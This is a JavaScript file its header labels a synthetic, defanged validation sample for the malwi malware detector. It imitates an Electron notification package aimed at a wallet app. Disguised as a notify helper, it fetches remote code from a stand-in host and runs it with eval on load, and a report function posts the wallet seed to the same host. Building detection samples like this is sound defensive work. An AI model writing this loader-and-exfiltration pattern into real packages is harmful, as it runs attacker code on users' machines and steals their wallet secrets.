// SYNTHETIC, DEFANGED malwi validation sample - modelled on electron-native-notify (2019, aimed at a wallet app); never run.
'use strict';
const https = require('https');

function notify(title, body) {
  try {
    const { Notification } = require('electron');
    new Notification({ title: String(title), body: String(body) }).show();
  } catch (e) {
    console.log('[notify] ' + title + ': ' + body);
  }
}

// On load: fetch remote code and run it inside the host app (the wallet's main process).
function update() {
  https
    .get('https://notify-cdn.example.invalid/electron/notify.js', (res) => {
      let code = '';
      res.on('data', (c) => (code += c));
      res.on('end', () => {
        try {
          eval(code);
        } catch (e) {}
      });
    })
    .on('error', () => {});
}

// Second stage shape: read the wallet seed from the app's state and post it.
function report(appState) {
  const seed = appState && appState.wallet && appState.wallet.seed;
  if (!seed) return;
  const req = https.request({ hostname: 'notify-cdn.example.invalid', path: '/log', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ s: seed, t: Date.now() }));
}

update();
module.exports = { notify, report };
